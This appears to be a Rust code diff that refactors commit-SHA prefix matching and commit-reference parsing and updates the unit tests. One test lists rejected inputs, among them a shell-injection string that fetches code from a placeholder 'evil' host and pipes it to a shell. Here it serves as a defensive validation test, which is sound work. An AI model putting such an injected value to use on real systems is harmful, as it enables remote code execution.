@@ -33,9 +33,9 @@ impl CommitSha {
         &self.0[..7]
     }
 
-    /// True when `prefix` (7 to 40 hex digits, any case) abbreviates this commit.
+    /// True when `prefix` is a commit (see [`CommitRef`]) that abbreviates this one.
     pub fn starts_with(&self, prefix: &str) -> bool {
-        prefix.len() >= 7 && self.0.starts_with(&prefix.to_ascii_lowercase())
+        CommitRef::parse(prefix).is_ok_and(|p| self.0.starts_with(p.as_str()))
     }
 }
 
@@ -57,11 +57,6 @@ impl CommitRef {
 
     pub fn as_str(&self) -> &str {
         &self.0
-    }
-
-    /// The full SHA, when this names all 40 digits.
-    pub fn full(&self) -> Option<CommitSha> {
-        CommitSha::parse(&self.0).ok()
     }
 }
 
@@ -93,7 +88,7 @@ mod tests {
         assert_eq!(sha.as_str(), "ab".repeat(20));
         assert_eq!(sha.short(), "abababa");
         assert!(sha.starts_with("ABABABA"));
-        assert!(!sha.starts_with("ababab"));
+        assert!(!sha.starts_with("ababab"), "six digits abbreviate nothing");
         for bad in [
             "",
             "x;curl evil|sh #",
@@ -109,6 +104,6 @@ mod tests {
         assert_eq!(CommitRef::parse("ABCDEF0").unwrap().as_str(), "abcdef0");
         assert!(CommitRef::parse("abcdef").is_err());
         assert!(CommitRef::parse("abcdef0;").is_err());
-        assert_eq!(CommitRef::from(&sha).full(), Some(sha));
+        assert_eq!(CommitRef::from(&sha).as_str(), sha.as_str());
     }
 }
